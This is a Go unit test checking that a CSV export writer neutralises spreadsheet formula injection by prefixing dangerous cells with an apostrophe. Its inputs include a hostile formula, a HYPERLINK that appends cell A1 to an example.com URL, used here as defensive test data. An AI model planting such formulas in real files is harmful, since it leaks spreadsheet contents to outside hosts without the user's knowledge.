package backfill_test

import (
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"cloudidq/internal/backfill"
	"cloudidq/internal/lines"
	"cloudidq/store"
)

// No spreadsheet may run a cell as a formula, because producers choose references, and users choose
// some of the data. cloudidq's own numbers stay numbers, including negative ones.
func TestWriter_EscapesFormulas(t *testing.T) {
	at := store.At(time.Date(2026, 11, 22, 8, 0, 0, 0, time.UTC))
	formulas := []string{
		`=HYPERLINK("http://example.com/?x="&A1)`, "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠1",
	}
	plain := []string{"", "73_a", " =1", "a=1", "'=1", "order-1", "1-1", "{}", "中"}
	for _, text := range append(formulas, plain...) {
		rec := store.Record{
			AppID: "-wx", OpenID: text, CloudID: text, Status: store.Failed, Kind: "other", Reference: text,
			Data:     json.RawMessage(`{"nickName":"=1"}`),
			Error:    &store.Error{Code: -601006, Message: text, RID: text},
			Attempts: 1, AcceptedAt: at, FinishedAt: at,
		}
		safe := text
		if slices.Contains(formulas, text) {
			safe = "'" + text
		}
		row := func(appID, text string) []string {
			return []string{
				appID, text, text, "failed", "other", `{"nickName":"=1"}`, "-601006", text, text, "1", text,
				"2026-11-22T08:00:00.000Z", "2026-11-22T08:00:00.000Z",
			}
		}
		if diff := cmp.Diff(row("'-wx", safe), writtenRow(t, rec, false)); diff != "" {
			t.Errorf("%q (-want +got):\n%s", text, diff)
		}
		if diff := cmp.Diff(row("-wx", text), writtenRow(t, rec, true)); diff != "" && !strings.Contains(text, "\r") {
			t.Errorf("raw %q (-want +got):\n%s", text, diff)
		}
	}
}

// writtenRow writes a record as CSV, and returns its cells as a CSV reader sees them.
func writtenRow(t *testing.T, rec store.Record, raw bool) []string {
	t.Helper()
	var text strings.Builder
	w := backfill.NewWriter(&text, lines.CSV)
	if raw {
		w.Raw()
	}
	if err := w.Write([]store.Record{rec}); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(text.String())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v: %s", len(rows), err, text.String())
	}
	return rows[1]
}
